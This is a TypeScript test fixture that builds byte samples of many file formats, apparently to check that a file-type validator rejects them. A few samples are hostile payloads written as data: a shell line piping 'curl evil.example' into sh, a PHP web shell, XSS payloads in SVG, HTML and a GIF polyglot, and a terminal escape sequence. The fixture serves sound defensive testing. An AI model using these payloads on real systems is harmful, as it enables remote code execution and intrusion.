import { gzipSync } from 'node:zlib'

import { aZip, noise, riff, riffChunk } from './content/test-content.ts'

/** Bytes given in hexadecimal, followed by noise. */
export const hex = (digits: string) => Buffer.concat([Buffer.from(digits, 'hex'), noise(64)])
/** One byte per character. */
export const latin1 = (characters: string) => Buffer.from(characters, 'latin1')

/** Beginnings of programs and of other formats. */
export const OTHER_TYPES: Readonly<Record<string, Buffer>> = {
  exe: hex('4d5a90000300'),
  elf: hex('7f454c460201'),
  macho: hex('cffaedfe07'),
  class: hex('cafebabe0000'),
  wasm: hex('0061736d01000000'),
  zip: aZip(),
  docx: Buffer.concat([aZip(), noise(64)]),
  rar: hex('526172211a0700'),
  '7z': hex('377abcaf271c'),
  gz: gzipSync(noise(64)),
  bz2: hex('425a683931415926'),
  xz: hex('fd377a585a00'),
  cab: hex('4d53434600000000'),
  doc: hex('d0cf11e0a1b11ae1'),
  lnk: hex('4c0000000114020000'),
  sqlite: latin1('SQLite format 3\0'),
  gif: latin1('GIF89a\x01\0\x01\0\0\0\0;'),
  gifjs: latin1('GIF89a=1;alert(1)//'),
  bmp: hex('424d36000000'),
  tiff: hex('49492a0008000000'),
  ico: hex('00000100010010'),
  psd: hex('384250530001'),
  heic: latin1('\0\0\0\x18ftypheic\0\0\0\0'),
  avif: latin1('\0\0\0\x18ftypavif\0\0\0\0'),
  mp4: latin1('\0\0\0\x18ftypisom\0\0\0\0'),
  mp3: latin1('ID3\x04\0\0\0\0\0\0'),
  wav: riff('WAVE', riffChunk('fmt ', noise(16))),
  avi: riff('AVI ', riffChunk('LIST', noise(16))),
  ogg: latin1('OggS\0\x02'),
  swf: hex('43575309'),
  woff: latin1('wOFF\0\x01\0\0'),
  ps: latin1('%!PS-Adobe-3.0\n(%stdin) (r) file'),
  rtf: latin1('{\\rtf1\\ansi{\\object}}'),
  svg: latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  html: latin1('<!doctype html><script>alert(1)</script>'),
  xhtml: latin1('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
  php: latin1('<?php system($_GET["c"]); ?>'),
  sh: latin1('#!/bin/sh\ncurl evil.example | sh'),
  utf16: Buffer.from('\uFEFFhello', 'utf16le'),
  latin1: latin1('t\xe4iesti'),
  nul: latin1('text with \0 in it'),
  ansi: latin1('\x1b]0;evil\x07'),
}
